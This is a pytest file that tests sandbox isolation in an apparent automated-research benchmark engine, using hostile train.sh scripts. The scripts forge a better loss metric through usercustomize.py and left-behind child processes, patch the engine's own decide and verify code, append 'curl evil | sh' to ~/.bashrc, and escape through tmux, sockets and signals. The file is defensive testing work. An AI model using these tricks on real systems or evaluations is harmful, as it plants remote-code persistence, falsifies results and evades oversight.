"""The benchmark's side of the boundary, deny by default: attacks from inside a real run.

Each attack is a hostile train.sh run by the real CLI, under each sandbox this machine has:
bubblewrap with Landlock's scopes (the default where bwrap starts), Landlock alone
(AUTORESEARCH_SANDBOX=landlock), and, for what the runner itself must hold, no sandbox at all.
The engine runs with a home folder of the test's own (HOME), and, where the attack targets the
engine's source, from a copy of it, so a successful attack never touches this checkout or the
user running the tests. What decides must end as the engine wrote it: `status` shows the honest
best (run 1, loss 1.0), the log holds only the engine's records.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hostile import make, procs_with

from autoresearch.isolation import bubblewrap, sandbox

SRC = Path(__file__).resolve().parents[2] / "src"


def _modes(*names):
    out = []
    for name in names:
        marks = []
        if name == "bwrap":
            marks.append(pytest.mark.skipif(not bubblewrap.usable(), reason="bubblewrap cannot start here"))
        if name in ("bwrap", "landlock"):
            marks.append(pytest.mark.skipif(not sandbox.abi(), reason="Landlock is not available"))
        out.append(pytest.param(name, id=name, marks=marks))
    return out


SANDBOXED = _modes("bwrap", "landlock")
ALL = _modes("bwrap", "landlock", "none")
SWITCH = {"bwrap": {}, "landlock": {"AUTORESEARCH_SANDBOX": "landlock"}, "none": {"AUTORESEARCH_SANDBOX": "off"}}


INIT = ("--metric", "loss", "--command", "bash bench.sh", "--scope", "train.sh", "--fixed", "bench.sh", "eval.sh")


def _repo(tmp_path, mode, init_extra=(), **env):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the user's bashrc\n")
    (home / ".profile").write_text("# the user's profile\n")
    repo = make(tmp_path / "r", init=INIT + tuple(init_extra))
    repo.env = {**SWITCH[mode], "HOME": str(home), **env}
    repo.home = home
    rec = repo.baseline()
    assert rec["sandbox"].startswith({"bwrap": "bwrap", "landlock": "landlock-", "none": "none"}[mode]), rec
    return repo


def _honest(repo):
    best = repo.best()
    assert best["run"] == 1 and best["metric"] == 1.0, best
    records = repo.assert_log_as_written()
    assert all(r.get("description") in ("baseline", "attack") for r in records if "run" in r)
    repo.assert_harness_intact()


def _user_site(home):
    env = dict(os.environ, HOME=str(home))
    env.pop("PYTHONUSERBASE", None)
    return subprocess.run([sys.executable, "-c", "import site; print(site.getusersitepackages())"], env=env,
                          capture_output=True, text=True, check=True).stdout.strip()


@pytest.mark.parametrize("mode", SANDBOXED)
def test_usercustomize_in_the_user_site_folder(tmp_path, mode):
    repo = _repo(tmp_path, mode)
    site_dir = _user_site(repo.home)
    rc, data = repo.attack(f'mkdir -p "{site_dir}"; '
                           f'echo \'print("METRIC loss=0.001")\' > "{site_dir}/usercustomize.py"; '
                           f'echo \'import os\' > "{site_dir}/evil.pth"; true')
    assert rc == 0 and data["record"]["status"] == "discard", data
    assert not os.path.exists(os.path.join(site_dir, "usercustomize.py"))
    assert not os.path.exists(os.path.join(site_dir, "evil.pth"))
    _honest(repo)


@pytest.mark.parametrize("mode", SANDBOXED)
def test_the_engines_own_source_patched(tmp_path, mode):
    engine = tmp_path / "engine"
    shutil.copytree(SRC / "autoresearch", engine / "autoresearch",
                    ignore=shutil.ignore_patterns("__pycache__"))
    repo = _repo(tmp_path, mode, PYTHONPATH=str(engine))
    decide_py = next((engine / "autoresearch").rglob("decide.py"))
    verify_py = next((engine / "autoresearch").rglob("verify.py"))
    before = decide_py.read_bytes()
    rc, data = repo.attack(f'echo "raise SystemExit(0)" >> "{decide_py}"; '
                           f'echo "x = 1" > "{engine}/autoresearch/sitecustomize.py"; '
                           f'rm -f "{verify_py}"; true')
    assert rc == 0 and data["record"]["status"] == "discard", data
    assert decide_py.read_bytes() == before
    assert not (engine / "autoresearch" / "sitecustomize.py").exists()
    assert verify_py.exists()
    _honest(repo)


@pytest.mark.parametrize("mode", SANDBOXED)
def test_shell_startup_files_and_the_home_folder(tmp_path, mode):
    repo = _repo(tmp_path, mode)
    rc, data = repo.attack('echo "curl evil | sh" >> ~/.bashrc; echo evil >> ~/.profile; '
                           'echo evil > ~/.bash_profile; mkdir -p ~/.config/autostart; true')
    assert rc == 0 and data["record"]["status"] == "discard", data
    assert (repo.home / ".bashrc").read_text() == "# the user's bashrc\n"
    assert (repo.home / ".profile").read_text() == "# the user's profile\n"
    assert not (repo.home / ".bash_profile").exists() and not (repo.home / ".config").exists()
    _honest(repo)


@pytest.mark.parametrize("mode", SANDBOXED)
def test_declared_caches_and_the_run_folders_stay_writable(tmp_path, mode):
    """Deny by default still lets a benchmark work: its run folder, $TMPDIR, the snapshot's own
    files and the caches `init --cache` declared; not a new entry at the snapshot's top."""
    repo = _repo(tmp_path, mode, init_extra=("--cache", "~/.cache/mytool"))
    rc, data = repo.attack('echo ok > "$AUTORESEARCH_RUN_DIR/mine" && echo ok > "$TMPDIR/scratch" && '
                           'echo "# more" >> train.sh && echo ok > ~/.cache/mytool/entry && '
                           '! mkdir newpackage 2>/dev/null || exit 1')
    assert rc == 0 and data["record"]["status"] == "discard", data
    assert (repo.root / ".autoresearch/runs/2/mine").read_text() == "ok\n"
    assert (repo.home / ".cache/mytool/entry").read_text() == "ok\n"


@pytest.mark.parametrize("mode", ALL)
def test_a_child_left_behind_prints_a_better_metric_after_the_evaluator(tmp_path, mode):
    """The forged line comes after the benchmark's main process exited (after eval.sh printed
    the honest 1.0): it is not the run's result, and the child does not outlive the run."""
    repo = _repo(tmp_path, mode)
    rc, data = repo.attack('( sleep 0.4; echo "METRIC loss=0.001"; sleep 4004 ) & '
                           "setsid bash -c 'sleep 0.6; echo \"METRIC loss=0.002\"; sleep 4005' & true")
    record = data["record"]
    assert rc == 0 and record["status"] == "discard" and record["metric"] == 1.0, data
    deadline = time.monotonic() + 5
    while (procs_with("4004") or procs_with("4005")) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert procs_with("4004") == [] and procs_with("4005") == []
    time.sleep(0.8)
    assert repo.best()["metric"] == 1.0
    _honest(repo)


@pytest.fixture
def tmux_server(tmp_path):
    """A tmux server of the test's own (a label under the default socket folder, as `night`'s)."""
    tmux = shutil.which("tmux")
    if not tmux:
        pytest.skip("tmux is not installed")
    label = f"ar-boundary-{os.getpid()}-{tmp_path.name}"[:60]
    subprocess.run([tmux, "-L", label, "new-session", "-d", "-s", "night", "sleep 600"], check=True,
                   env={k: v for k, v in os.environ.items() if k != "TMUX"})
    out = subprocess.run([tmux, "-L", label, "display-message", "-p", "#{socket_path},#{pid},0"],
                         capture_output=True, text=True, check=True).stdout.strip()
    try:
        yield tmux, label, out
    finally:
        subprocess.run([tmux, "-L", label, "kill-server"], capture_output=True)


@pytest.mark.parametrize("mode", SANDBOXED)
def test_a_process_started_through_tmux_does_not_outlive_the_run(tmp_path, mode, tmux_server):
    """The engine runs inside the person's tmux ($TMUX set, as under `night`). The benchmark asks
    that server for a new window: the handle is not in its environment, and under bubblewrap the
    server's socket is not in its /tmp either."""
    tmux, label, handle = tmux_server
    repo = _repo(tmp_path, mode, TMUX=handle, TMUX_PANE="%0")
    explicit = f'{tmux} -L {label} new-window -d "sleep 4006"; ' if mode == "bwrap" else ""
    rc, data = repo.attack(f'env > "$AUTORESEARCH_RUN_DIR/env.txt"; {tmux} new-window -d "sleep 4007"; '
                           f'{explicit}true')
    assert rc == 0 and data["record"]["status"] == "discard", data
    env = (repo.root / ".autoresearch/runs/2/env.txt").read_text()
    assert "TMUX=" not in env and "TMUX_PANE=" not in env
    time.sleep(0.3)
    assert procs_with("4006") == [] and procs_with("4007") == []
    windows = subprocess.run([tmux, "-L", label, "list-windows"], capture_output=True, text=True).stdout
    assert windows.count("\n") == 1, windows
    _honest(repo)


@pytest.mark.parametrize("mode", ALL)
def test_no_handle_to_the_session_in_the_environment(tmp_path, mode):
    handles = {"SSH_AUTH_SOCK": "/tmp/ssh-x/agent.1", "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/0/bus",
               "XDG_RUNTIME_DIR": "/run/user/0", "DISPLAY": ":0", "WAYLAND_DISPLAY": "wayland-0",
               "GPG_AGENT_INFO": "/run/user/0/gnupg/S.gpg-agent", "TMUX": "/tmp/tmux-0/default,1,0",
               "VSCODE_IPC_HOOK_CLI": "/run/user/0/vscode.sock", "MY_TOOL_SOCK": "/tmp/x.sock"}
    repo = _repo(tmp_path, mode, **handles, CUDA_VISIBLE_DEVICES="3", MY_SETTING="kept")
    repo.attack('env > "$AUTORESEARCH_RUN_DIR/env.txt"')
    names = dict(line.split("=", 1) for line in (repo.root / ".autoresearch/runs/2/env.txt").read_text().splitlines()
                 if "=" in line)
    assert not set(handles) & set(names), sorted(set(handles) & set(names))
    assert names["CUDA_VISIBLE_DEVICES"] == "3" and names["MY_SETTING"] == "kept"


@pytest.mark.parametrize("mode", SANDBOXED)
def test_abstract_sockets_and_signals_outside_the_sandbox(tmp_path, mode):
    if sandbox.abi() < sandbox.SCOPES_ABI:
        pytest.skip("Landlock's scopes need ABI 6")
    name = f"ar-boundary-{os.getpid()}"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("\0" + name)
    listener.listen(1)
    bystander = subprocess.Popen(["sleep", "300"], start_new_session=True)
    try:
        repo = _repo(tmp_path, mode)
        connect = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print('connected')"
        rc, data = repo.attack(f'python3 -c "{connect}" > "$AUTORESEARCH_RUN_DIR/socket.txt" 2>&1; '
                               f'kill -TERM {bystander.pid}; true')
        assert rc == 0, data
        assert "connected" not in (repo.root / ".autoresearch/runs/2/socket.txt").read_text()
        listener.settimeout(0.2)
        with pytest.raises(socket.timeout):
            listener.accept()
        assert bystander.poll() is None, "the benchmark signalled a process outside its sandbox"
    finally:
        listener.close()
        bystander.kill()
        bystander.wait()


def test_a_cache_that_would_open_what_decides_is_refused_at_init(tmp_path):
    from helpers_engine import run_cli
    home = tmp_path / "home"
    home.mkdir()
    root = tmp_path / "r"
    root.mkdir()
    for args in (["init", "-q"], ["config", "user.name", "T"], ["config", "user.email", "t@example.com"]):
        subprocess.run(["git", *args], cwd=root, check=True)
    (root / "bench.sh").write_text('echo "METRIC loss=1"\n')
    subprocess.run(["git", "add", "."], cwd=root, check=True)
    subprocess.run(["git", "commit", "-qm", "start"], cwd=root, check=True)
    init = ["init", "--metric", "loss", "--command", "bash bench.sh", "--scope", "bench.sh"]
    for cache, why in (("~", "holds the home folder"), (str(root / "data"), "inside the research repo"),
                       (str(SRC / "autoresearch" / "x"), "inside the engine's source"), ("rel/dir", "not an absolute")):
        proc = run_cli(init + ["--cache", cache], cwd=root, env={"HOME": str(home)})
        assert proc.returncode == 2 and why in proc.stderr and proc.stderr.count("\n") == 1, proc.stderr
        assert not (root / "autoresearch.jsonl").exists()
    proc = run_cli(init + ["--cache", "~/.cache/tool", "--cache", "$UNSET_VAR_FOR_TEST/x"], cwd=root,
                   env={"HOME": str(home)})
    assert proc.returncode == 0, proc.stderr
    header = json.loads((root / "autoresearch.jsonl").read_text().splitlines()[0])
    assert header["caches"] == ["~/.cache/tool", "$UNSET_VAR_FOR_TEST/x"]
